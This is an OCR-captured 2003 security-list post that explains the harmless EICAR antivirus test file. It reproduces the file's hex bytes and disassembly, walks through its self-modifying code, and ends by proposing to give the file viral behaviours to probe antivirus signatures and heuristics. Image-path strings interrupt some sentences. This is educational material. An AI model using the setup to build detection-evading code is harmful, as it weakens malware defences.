Let's have fun with EICAR test file

Date: 06/27/03

  • Next message: Boczek, Malcolm: "Re: SP4 Problems"
    Date:         Fri, 27 Jun 2003 10:35:23 -0700

    Hash: SHA1

    Let's have fun with EICAR test file

    This text is about eicar.com, a famous industry-standard test file designed
    to check antivirus software working status. We'll first discuss fairly
    in detail of what it's made, after which we'll "play" a little with it.
    You are supposed to have a reasonable background with COM files and assembly
    language programming.

    They call this Introduction

    EICAR stands for "European Institute for Computer Antivirus Research".What they are involved in won't require a great work of your brain (go
    to www.eicar.org otherwise)...

    A few years ago, they released a file, cleverly named eicar.com, designed
    to help users to check their own antivirus (AV) software. Its official
    name is "EICAR Standard Antivirus Test File" (ESATF). Here are some pieces
    of information about it:

    - - It's short, only 68 (44h) bytes in length. You won't spend too much
    time or money downloading it. Furthermore, you can duplicate and distribute
    it quickly.
    - - It's made up of exclusively printable ASCII characters. Thus you can
    easily create it with any plain text editor if you have no mean to download
    it. Here's its contents:


    Figure 1. ESATF ASCII form.

    As you can see, there are solely capital letters, digits or punctuation
    marks; no space or character from outer space. The third symbol is the
    upper case letter "O", not zero.- - It's not a virus at all (using a true one to test your AV would be
    really irresponsible), just a legit and safe DOS COM file! When running,
     it only prints the "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!" string on your
    screen (more details about its implementation below). The choice of COM
    file is just a practical consideration: a way to be sure to "run" correctly
    from DOS OSes to the last Windows OSes...

    Every AV should react when facing ESATF. It's a now well known industry-
    standard test file and all credible running AV must "detect" it. Actually,
     it should behave "as if" ESATF was a virus: appropriate warning message
    (some display something like "File infected with EICAR-Test-File" but
    they ought to be less stressful; ESATF isn't a virus and AVs shouldn't
    frighten novices) locking access to the file, putting in quarantine,
    etc. Note it's a safe and easy way to ensure yourself your AV is really
    and correctly working (maybe the opportunity to observe your first digital
    "viral" incident)... and that's what ESATF has been designed for!

    EICAR provides also two zipped versions of ESATF in order to test dispositions
    of AVs to deal with zip archive files. One is the "code" seen above (Figure
    1) just zipped. The last one is the zipped version... zipped one more
    time (a double zip archive). Therefore, you can assess the AV unzip level
    as well.

    Looking inside ESATF gutsHere's the disassembled code of eicar.com. Traditionally, memory locations
    are specified using the segment:offset notation, but as segment values
    don't matter within the context of this article, they are omitted:

     Step Offset Opcodes Instruction

     01 0100 58 pop ax
     02 0101 354F21 xor ax,214Fh
     03 0104 50 push ax04 0105 254041 and ax,4140h
     05 0108 50 push ax
     06 0109 5B pop bx
     07 010A 345C xor al,5Ch
     08 010C 50 push ax
     09 010D 5A pop dx
     10 010E 58 pop ax
     11 010F 353428 xor ax,2834h
     12 0112 50 push ax
     13 0113 5E pop si
     14 0114 2937 sub [bx],si
     15 0116 43 inc bx
     16 0117 43 inc bx
     17 0118 2937 sub [bx],si
     18 011A 7D24 jge 0140
     19 011C 4549434120 0140 48 dec ax
     21 0141 2B482A sub cx,[bx+si+2A]

    Figure 2. ESATF disassembling.

    It seems to be a weird code just for printing a string on the screen
    uh?! But don't forget one requirement from the authors: it must be possible
    to create the file using a plain text editor, so they had to use only
    alphabetic symbols, digits and common punctuation marks. To remove any
    doubt, lower case letters and space were excluded. Thus, only subsets
    of ASCII characters are available, ranging from 21h (exclamation mark:
    !) to 60h (single opening quotation mark: ') and from 7Bh (opening brace:
    {) to 7Dh (closing brace: }).

    Here are ESATF characters hexadecimalcodes:

       00 01 02 03 04 05 06 07

     00 58 35 4F 21 50 25 40 41
     01 50 5B 34 5C 50 5A 58 35
     02 34 28 50 5E 29 37 43 43
     03 29 37 7D 24 45 49 43 41
     04 52 2D 53 54 41 4E 44 41
     05 52 44 2D 41 4E 54 49 56
     06 49 52 55 53 2D 54 45 53
     07 54 2D 46 49 4C 45 21 24
     08 48 2B 48 2A

    Figure 3. ESATF hexadecimal codes.

    In a more classic way, we may write ESATF like this (Microsoft MASM code):

     01 .386
     02 .MODEL TINY
     06 ORG 100h
     08 @START: jmp @GO12 @GO: mov DX,OFFSET msg
     13 mov ax,0900h
     14 int 21h
     15 int 20h
     17 CODE ENDS
     19 END @START
    Figure 4. ESATF-Like source code.

    When running, result is the same as with ESATF, but the assembled final
    file has a smaller size (48 bytes). Here is the disassembling of ESATF-

     Step Offset Opcodes Instruction

     01 0100 EB24 jmp 0126h
     02 0102 45494341
     03 0126 BA0201 mov dx,0102h
     04 0129 B80009 mov ax,0900h
     05 012C CD21 int 21h
     06 012E CD20 int 20h

    Figure 5. ESATF-Like disassembling.

    Unfortunately, you can notice plenty of hexadecimal codes out of the"allowed" range [21h-60h,7Bh-7Dh], particularly interrupts calls opcodes!
    That's why ESATF designers chose to use a very common trick from the
    "viral scene" to encode it: self-modifying code...

    Let's debug (or spelunking ESATF)!

    For an easier reading of the following, keep Figure 2 close to your eyes.
    Once "launched", eicar.com is loaded in memory at address 100h, just
    after the 256 (100h) bytes in size PSP (Program Segment Prefix). The
    first instruction is:

    01 0100 58 pop ax

    In English, we move two bytes of the stack from the SS:[SP] address into
    the AX register. Initially, SP is set to FFFEh and the 16 bits value
    stored there is 0. Thus, we just move 0 into AX.
    AX = 0 and SP = 0.

    02 0101 354F21 xor ax,214Fh

    0 XOR 214Fh = 214Fh. Opcodes show the 214Fh value "inverted" (4F21);
    it's just because Intel microprocessors use Little Endian convention
    to store bytes in memory: the least significant byte (also called low
    byte) is stored first, at the lowest address, while the most significant
    byte (high byte) is stored at the highest address.
    AX = 214Fh and SP = 0.

    03 0104 50 push ax

    SP is decremented by 2 and AX contents (214Fh) pushed at SS:[SP]. Well,
     because it's a memory location, the actual value stored is 4F21h; in
    order to keep things simple, I cheat a bit...
    AX = 214Fh, SP = FFFEh and SS:[SP] = 214Fh.

    04 0105 254041 and ax,4140h

    214Fh AND 4140h = 140h. It's the address of the first instruction in
    memory after the "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!" string (go back
    to Figure 2). Once again, be aware of the Little Endian order in memory.
    AX = 140h,SP = FFFEh and SS:[SP] = 214Fh.

    05 0108 50 push ax

    A stack operation more!
    AX = 140h, SP = FFFCh, SS:[SP] = 140h and SS:[SP+2] = 214Fh.

    06 0109 5B pop bx

    Using a pop instruction just after a push one is simply equivalent to
    a mov instruction.
    AX = 140h, BX = 140h, SP = FFFEh and SS:[SP] = 214Fh.

    07 010A 345C xor al,5Ch

    AX holds 140h, hence AH = 00000001b and AL = 01000000b. AL XOR 5Ch =
    01000000b XOR 01011100b = 00011100b = 1Ch. AX = 0000000100011100b = 11Ch.
    Notice it's the memory offset of the string to be displayed (check it
    in Figure 2).AX = 11Ch, BX = 140h, SP = FFFEh and SS:[SP] = 214Fh.

    08 010C 50 push ax
    09 010D 5A pop dx

    DX now contains the ESATF warning string address. Compare with code in
    Figure 4 and you should grasp what ESATF intends to build in memory...
    AX = 11Ch, BX = 140h, DX = 11Ch, SP = FFFEh and SS:[SP] = 214Fh.

    10 010E 58 pop ax

    AX = 214Fh, BX = 140h, DX = 11Ch and SP = 0.

    11 010F 353428 xor ax,2834h

    AX XOR 2834h = 214Fh XOR 2834h = 97Bh.
    AX = 97Bh, BX = 140h, DX = 11Ch and SP = 0.

    12 0112 50 push ax
    13 0113 5E pop si

    AX = 97Bh, BX = 140h, DX = 11Ch, SI = 97Bh and SP = 0.

    14 0114 2937 sub [bx],siThere are a few tricks here! First, the two bytes at [bx] location (address
    140h) are 48h and 2Bh (look step 20 opcode and first byte of step 21
    opcode in Figure 2); But remember Little Endian order! Hence, the 16
    bits value returned is 2B48h and the instruction above isequivalent
    to: [140h] = 2B48h - 097Bh = 21CDh... and still because Little Endian,
     the actual value written at 140h is CD21h, that is, opcodes of the int
    21h instruction!

    All we did until now can easily be summarized:

    mov dx,OFFSET Msg
    mov ax,097Bh
    int 21h

    Nothing more! If you compare with ESATF-Like code in Figure 4, the little
    difference is that AL holds the 7Bh value instead of 0. It's of no consequence,
     because only AH contents (sub-function number) matters.
    AX = 97Bh, BX = 140h, DX = 11Ch, SI = 97Bh and SP = 0.

    15 0116 43 inc bx
    16 0117 43 inc bxBX = BX+2 = 142h. It's the address of the last two bytes in memory of
    eicar.com (again, refer to Figure 2).
    AX = 97Bh, BX = 142h, DX = 11Ch, SI = 97Bh and SP = 0.

    17 0118 2937 sub [bx],si

    The same stratagem seen at step 14 above is used once more! At address
    142h, the 16 bits value stored is 482Ah; once reverted we have 2A48h.Hence, 2A48h - SI = 2A48h - 97Bh = 20CDh (actually stored CD20h at 142h
    location). These two bytes (CD20h) are opcodes of the int 20h instruction,
     the traditional way to end a COM program... and the last instruction
    of our ESATF-Like program!

    18 011A 7D24 jge 0140

    After step 17 processing, ZF flag is not set (just use the DOS Debug
    tool and trace eicar.com; at step 18 you'll see NZ value for ZF flag),
     then we simply jump to 140h in memory, where the "first" instruction
    of ESATF (int 21h) is; actually, we start a "new"code, the same as in
    Figure 4. Et voilà! Simple and easy uh?

    So what?

    Well, after this brief and cool introduction, it's time to have fun!
    The idea is: ESATF is not a virus, but it's used "as if" it was a real
    one. So what if we alter its code giving it true viral behaviors? What
    if we just "play" a little with its code? As you will see... weird stuff!

    Okay, some will say "Hey dude, ESATF is not designed to test and stressAVs algorithms, but to check if AVs are working...". I know that, but
    I partially agree with them; after all, ESATF is used to "check", so,
     in order to get a "full" checking, I think it should be treated like
    a true virus, even if it's not supposed to "evolve" like the real ones
    do. To check or not to check...Then, using ESATF is a cool and legal
    way to learn how AVs do their job: we won't disassemble any AV or break
    any licence agreements in our tests! The nice part is to watch how heuristics
    work with a code in principle detected by its signature (somehow, a way
    to assess the limits of this method). Above all, just remind the title
    of this text...

    First of all, to play... we need AVs! I'm not a specialist about AVs
    at all, then I just chose the "famous" ones (at least, those I heard
    about). I went to the Web to download trial versions of these products;
